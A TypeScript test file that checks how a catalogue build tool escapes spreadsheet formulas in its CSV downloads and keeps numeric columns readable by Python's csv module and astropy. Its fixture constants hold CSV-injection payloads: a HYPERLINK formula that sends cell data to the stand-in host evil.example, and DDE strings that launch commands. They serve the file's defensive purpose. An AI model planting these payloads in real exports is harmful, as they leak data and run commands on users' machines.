// Curator text that a spreadsheet would run as a formula, in the CSV listings of a real build:
// written as OWASP recommends (a single quote before it, inside quotes), so that Python's csv
// module and astropy, the readers the download names, read every file, and numbers keep reading
// as numbers. The tools come from Debian (python3-astropy; .ci/run installs it).

import { spawnSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { cli, edit, testdir } from './helpers.ts';
import { PRODUCT_FILES, SAMI_FILE } from './products-fixture.ts';

/** What curators typed, each starting with what OWASP lists: =, +, -, @, a tab, a carriage return. */
const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"c")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  spaced: '  =1+1',
};

interface Read {
  /** Every row as Python's csv module reads it. */
  rows: string[][];
  /** The table as astropy reads it: its column names, each column's kind (numpy's), and its rows. */
  astropy: { names: string[]; kinds: string[]; rows: (string | number | null)[][] };
}

let read: Record<'columns' | 'regions' | 'products', Read>;
let dist: string;

beforeAll(async () => {
  const dir = await testdir(PRODUCT_FILES);
  const yaml = (text: string) => JSON.stringify(text);
  await edit(dir, 'metadata/alpha/dr1/catalogues/SpecCat.yaml', (text) =>
    text
      .replace('description: Unique ID', `description: ${yaml(FORMULAS.hyperlink)}`)
      .replace('description: Heliocentric redshift', `description: ${yaml(FORMULAS.tab)}`)
      .replace('name: NOTE', `name: ${yaml(FORMULAS.at)}`)
      .replace('description: "Line\\u2028separator"', `description: ${yaml(FORMULAS.carriageReturn)}`),
  );
  await edit(dir, 'metadata/alpha/dr2/imaging/VST.yaml', (text) => text.replace('name: G09', `name: ${yaml(FORMULAS.minus)}`));
  await edit(dir, `metadata/${SAMI_FILE}`, (text) =>
    text
      .replace("description: 'Plain text'", `description: ${yaml(FORMULAS.plus)}`)
      .replace('flux_unit: km/s', `flux_unit: ${yaml(FORMULAS.spaced)}`),
  );
  const built = await cli(['build', '--base-url', 'https://schema.test'], dir);
  expect(built.code, built.stderr).toBe(0);
  dist = path.join(dir, 'dist');
  const python = spawnSync(
    '/usr/bin/python3',
    [
      '-c',
      `
import csv, json, sys, warnings
warnings.simplefilter('ignore')
from astropy.table import Table
out = {}
for name in ['columns', 'regions', 'products']:
    path = sys.argv[1] + '/download/' + name + '.csv'
    with open(path, newline='', encoding='utf-8') as f:
        rows = list(csv.reader(f, strict=True))
    t = Table.read(path, format='csv')
    def value(v):
        if hasattr(v, 'mask') or v is None or str(v) == '--':
            return None
        return v.item() if hasattr(v, 'item') else v
    out[name] = {'rows': rows, 'astropy': {'names': t.colnames, 'kinds': [t[c].dtype.kind for c in t.colnames],
        'rows': [[value(row[c]) for c in t.colnames] for row in t]}}
print(json.dumps(out))
`,
      dist,
    ],
    { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 },
  );
  expect(python.status, python.stderr).toBe(0);
  read = JSON.parse(python.stdout) as typeof read;
});

/** A cell a spreadsheet would run: one starting with =, +, -, @, a tab or a carriage return, also after white space. */
const runnable = (cell: string) => /^[\t\r]|^\s*[=+\-@]/.test(cell);
/** A number as the listings write one, or the archive's '-' for none. */
const number = (cell: string) => /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$|^-$/.test(cell);

describe('cells a spreadsheet would run as formulas', () => {
  test.each(['columns', 'regions', 'products'] as const)('no cell of %s.csv would be run, as Python reads it', (name) => {
    const cells = read[name].rows.flat();
    expect(cells.filter((cell) => runnable(cell) && !number(cell))).toEqual([]);
  });

  test.each([
    ['columns', 'description', FORMULAS.hyperlink],
    ['columns', 'description', FORMULAS.tab],
    ['columns', 'description', FORMULAS.carriageReturn],
    ['columns', 'column', FORMULAS.at],
    ['regions', 'region', FORMULAS.minus],
    ['products', 'description', FORMULAS.plus],
    ['products', 'flux_unit', FORMULAS.spaced],
  ] as const)("%s.csv's %s %j reads back with a single quote before it, with Python's csv module and astropy", (name, field, text) => {
    const [header = [], ...rows] = read[name].rows;
    const at = header.indexOf(field);
    expect(rows.map((row) => row[at])).toContain(`'${text}`);
    const { names, rows: table } = read[name].astropy;
    // astropy splits lines first (a carriage return too, even quoted) and trims white space, so
    // its texts are compared without white space: the quote still comes first.
    const squeeze = (value: unknown) => (typeof value === 'string' ? value.replace(/\s/g, '') : value);
    expect(table.map((row) => squeeze(row[names.indexOf(field)]))).toContain(squeeze(`'${text}`));
  });

  test('the bytes OWASP recommends: the quote inside the quoted cell, the quotes in it doubled', async () => {
    const text = await readFile(path.join(dist, 'download/columns.csv'), 'utf8');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""c"")",`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('numbers keep reading as numbers', () => {
  test('a negative declination in regions.csv is written as it is, and astropy reads a float column', async () => {
    const text = await readFile(path.join(dist, 'download/regions.csv'), 'utf8');
    expect(text).toMatch(/,-0\.50,/);
    const { names, kinds, rows } = read.regions.astropy;
    expect(kinds[names.indexOf('dec_c')]).toBe('f');
    expect(rows.map((row) => row[names.indexOf('dec_c')])).toContain(-0.5);
    expect(kinds[names.indexOf('region_id')]).toBe('i');
  });

  test.each([
    ['columns', ['group_id', 'table_id', 'column_id']],
    ['regions', ['facility_id', 'band_id', 'central_wave_ang', 'region_id', 'ra_c', 'dec_c']],
    ['products', ['facility_id', 'product_id', 'wave_min_ang', 'wave_max_ang', 'resolving_power']],
  ] as const)('the numeric fields of %s.csv read as numbers in astropy', (name, fields) => {
    const { names, kinds } = read[name].astropy;
    for (const field of fields) expect(['i', 'f'], field).toContain(kinds[names.indexOf(field)]);
  });
});
